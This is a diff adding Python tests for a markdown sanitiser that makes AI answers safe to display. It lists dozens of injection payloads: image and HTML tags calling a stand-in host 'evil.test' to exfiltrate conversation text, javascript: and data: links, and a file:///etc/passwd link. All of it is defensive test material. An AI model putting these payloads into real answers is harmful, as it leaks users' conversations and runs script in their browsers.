@@ -12,6 +12,9 @@ import pytest
 from core.render import (
     citation_seconds,
     link_citations,
+    plain_markdown,
+    safe_markdown,
+    speakers_html,
     transcript_html,
     unlink_citations,
 )
@@ -244,3 +247,161 @@ def test_a_citation_lands_on_the_sentence_that_starts_in_that_second():
     assert unlink_citations(linked) == "Maria [00:06], then [00:12–00:20] and [1:02:05], [00:30]."
     assert link_citations(linked, 4000, starts) == linked
     assert citation_seconds(linked) == [6, 12, 3725, 30]
+
+
+# --- answers made safe to show (safe_markdown) ---------------------------------------------------
+
+EVIL = "http://evil.test:8000"
+# Every way a model's answer could make the page fetch something, run something, or link elsewhere.
+HOSTILE = {
+    "inline image": f"Done. ![]({EVIL}/x.png?q=the+whole+conversation)",
+    "image with alt and title": f'![chart]({EVIL}/c.png "t")',
+    "image in angle brackets": f"![a](<{EVIL}/a.png>)",
+    "reference image": f"See ![a][1].\n\n[1]: {EVIL}/ref.png",
+    "reference image, collapsed": f"![logo][]\n\n[logo]: {EVIL}/logo.png",
+    "reference image, shortcut": f"![logo]\n\n  [logo]: <{EVIL}/logo.png> 'title'",
+    "definition in a quote": f"> [q]: {EVIL}/q.png\n\n![x][q]",
+    "definition with an escaped bracket": f"[a\\]b]: {EVIL}/esc.png\n\n![x][a\\]b]",
+    "definition after a bracket": f"[[a]: {EVIL}/br.png\n\n![x][\\[a]\n\n[b]\n[c]: {EVIL}/two-lines.png\n\n![y][c]",
+    "img tag": f'<img src="{EVIL}/img.png">',
+    "img tag, uppercase, no quotes": f"<IMG SRC={EVIL}/up.png>",
+    "img with srcset": f'<img srcset="{EVIL}/set.png 2x">',
+    "picture and source": f'<picture><source srcset="{EVIL}/p.png"><img></picture>',
+    "svg image": f'<svg><image href="{EVIL}/svg.png"/></svg>',
+    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
+    "video poster": f'<video poster="{EVIL}/poster.png"></video>',
+    "audio": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
+    "style with url()": f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
+    "link stylesheet": f'<link rel="stylesheet" href="{EVIL}/s.css">',
+    "inline style": f'<span style="background:url({EVIL}/span.png)">x</span>',
+    "html block": f'<div>\n<img src="{EVIL}/block.png">\n</div>',
+    "escaped lt": f'\\<img src="{EVIL}/esc.png">',
+    "a javascript": '<a href="javascript:alert(1)">click</a>',
+    "markdown javascript": "[click](javascript:alert(1))",
+    "javascript, mixed case and spaces": "[click](  JaVaScRiPt:alert(1) )",
+    "javascript with entities": "[click](jav&#x61;script&colon;alert(1))",
+    "javascript with escapes": "[click](java\\script:alert(1))",
+    "javascript in angle brackets": "[click](<javascript:alert(1)>)",
+    "javascript reference": "[click][j]\n\n[j]: javascript:alert(1)",
+    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "file link": "[x](file:///etc/passwd)",
+    "protocol-relative link": "[x](//evil.test/a)",
+    "relative path": "[x](/gradio_api/file=/etc/passwd)",
+    "another fragment": "[x](#top)",
+    "autolink": f"<{EVIL}/auto>",
+    "mailto autolink": "<mailto:a@evil.test>",
+    "email": "Write to boss@evil.test today.",
+    "ftp": "ftp://evil.test/f",
+    "entities": f"&#60;img src={EVIL}/ent.png&#62; &lt;img src={EVIL}/ent2.png&gt;",
+    "image in link text": f"[![x]({EVIL}/nested.png)](https://example.com/page)",
+    "image in image": f"![a ![b]({EVIL}/b.png)]({EVIL}/a.png)",
+    "image after an escaped backslash": f"\\\\![]({EVIL}/bs.png)",
+    "image in a list and a table": f"- ![]({EVIL}/li.png)\n\n| a |\n|---|\n| ![]({EVIL}/td.png) |",
+    "mermaid": f'```mermaid\ngraph TD; A-->B; <img src="{EVIL}/m.png">\n```',
+    "mermaid in a list": f'- ```mermaid\n  <img src="{EVIL}/m2.png">\n  ```',
+    "code span": f"`<img src={EVIL}/code.png>` ![]({EVIL}/after.png)",
+    "escaped backtick": f"\\`![]({EVIL}/tick.png)`",
+    "code span across a paragraph": f"`a\n\n![]({EVIL}/para.png)\n\n`",
+    "code span across table cells": f"| `x | ![]({EVIL}/cell.png)` |\n|---|---|\n| a | b |",
+    "fence that a list ends": f"- item\n\n  ```\n![]({EVIL}/list.png)\n```",
+}
+ALLOWED_TAGS = {"p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "br", "hr", "h1", "h2",
+                "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s", "del"}
+
+
+def rendered(markdown: str) -> str:
+    """HTML as a CommonMark parser (markdown-it-py, raw HTML on, with GFM tables, any link
+    accepted: the page's own markdown is less strict than markdown-it) renders it."""
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
+    md.validateLink = lambda url: True
+    return md.render(markdown)
+
+
+def assert_only_text_and_links(markdown: str) -> None:
+    page = parse_html(rendered(markdown))
+    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS, rendered(markdown)
+    for tag, attrs in page.tags:
+        assert set(attrs) <= {"a": {"href", "title"}, "code": {"class"}}.get(tag, set()), (tag, attrs)
+        if tag == "a":
+            assert re.fullmatch(r"#t=\d+(\.\d+)?|https?://[^\s\"'<>]+", attrs["href"]), attrs
+    assert not re.search(r"(?<![\\\u200b])@(?=evil)", markdown), "an e-mail address would be an autolink"
+    assert not re.search(r"(?i)ftp://", markdown), "an ftp address would be an autolink"
+    assert not re.search(r"(?i)(`{3,}|~{3,})\s*mermaid", markdown), "Gradio puts a mermaid fence in as HTML"
+
+
+@pytest.mark.parametrize("form", HOSTILE)
+def test_an_answer_shows_no_image_html_or_foreign_link(form):
+    answer = HOSTILE[form]
+    safe = safe_markdown(answer)
+    assert_only_text_and_links(safe)
+    assert_only_text_and_links(link_citations(safe, 100.0))
+    assert safe_markdown(safe) == safe, "made safe twice, as a conversation back from the browser is"
+
+
+def test_pathological_answers_stay_idempotent():
+    for answer in ("![" * 3000, "[a](" * 2000, "[" * 1200 + "]:", "@" * 3000, "\\" * 3000 + "<", "![[]" * 2000,
+                   "](" + "(" * 3000, "]:" * 3000, "[[a]: http://x\n" * 300):
+        safe = safe_markdown(answer)
+        assert safe_markdown(safe) == safe and "<" not in safe.replace("&lt;", "")
+
+
+def test_the_hostile_answers_are_hostile_before():
+    """The check above can fail: the forms, left as they are, render an image, HTML or a foreign
+    link (but for those kept to check that what is text stays text)."""
+    passed = set()
+    for form, answer in HOSTILE.items():
+        try:
+            assert_only_text_and_links(answer)
+            passed.add(form)
+        except AssertionError:
+            pass
+    assert passed == {"escaped lt", "entities", "autolink", "definition after a bracket"}  # the last: that
+    # escaping does not make a definition of what was none
+
+
+def test_what_is_hostile_is_shown_as_its_text():
+    shown = rendered(safe_markdown(f"Done. ![]({EVIL}/x.png?q=1) <img src=x> [j](javascript:alert(1))"))
+    text = re.sub(r"<[^>]+>", "", shown)
+    assert "![](http://evil.test:8000/x.png?q=1)" in text and "&lt;img src=x&gt;" in text
+    assert "[j](javascript:alert(1))" in text
+
+
+def test_citations_and_web_links_stay_links():
+    answer = ("Maria leaves at [01:02] ([see the plan](https://example.com/plan_(v2)?a=1&b=2 \"Plan\")); "
+              "more at <https://example.com/auto> and [the start](#t=0). Code: `a < b`.")
+    safe = link_citations(safe_markdown(answer), 100.0, [62.4])
+    page = parse_html(rendered(safe))
+    hrefs = [dict(attrs)["href"] for tag, attrs in page.tags if tag == "a"]
+    assert hrefs == ["#t=62.4", "https://example.com/plan_%28v2%29?a=1&b=2", "#t=0"], rendered(safe)
+    assert "<code>a &lt; b</code>" in rendered(safe), "code is shown as it is"
+    assert unlink_citations(safe).startswith("Maria leaves at [01:02] (")
+
+
+def test_a_web_link_written_with_entities_or_escapes_is_written_back_plainly():
+    assert safe_markdown("[x](&#104;ttps://example.com/\\_a)") == "[x](https://example.com/_a)"
+    assert safe_markdown("[x](<https://example.com/a>)") == "[x](https://example.com/a)"
+
+
+def test_code_keeps_its_text_but_defuses_what_would_be_markup():
+    safe = safe_markdown("```python\nif a<b and c[0](1): print('x@y.z')\n```\nand `<b>`")
+    assert safe.replace("\u200b", "") == "```python\nif a<b and c[0](1): print('x@y.z')\n```\nand `<b>`"
+    assert "<b" not in safe and "](" not in safe, "should markdown read it as text after all"
+
+
+def test_a_name_or_title_is_shown_as_it_is():
+    name = "![x](http://evil.test/n.png) <img src=x> **bold** #1\n- item"
+    shown = rendered(f"**{plain_markdown(name)}**")
+    assert shown == "<p><strong>![x](http://evil.test/n.png) &lt;img src=x&gt; **bold** #1 - item</strong></p>\n"
+
+
+def test_speaker_names_are_escaped_in_the_transcript():
+    name = f'<img src="{EVIL}/spk.png"> ![]({EVIL}/spk2.png)'
+    t = talk((0, 2, "Hello <b>there</b>.", "S1"), (2.5, 4, "Fine.", "S1"))
+    t.meta.speakers["S1"] = name
+    for html_ in (transcript_html(t), speakers_html(t)):
+        page = parse_html(html_)
+        assert not any(tag in ("img", "b") for tag, _ in page.tags), html_
+        assert name in "".join(page.text) or name in html_.replace("&lt;", "<").replace("&gt;", ">").replace(
+            "&quot;", '"'), html_
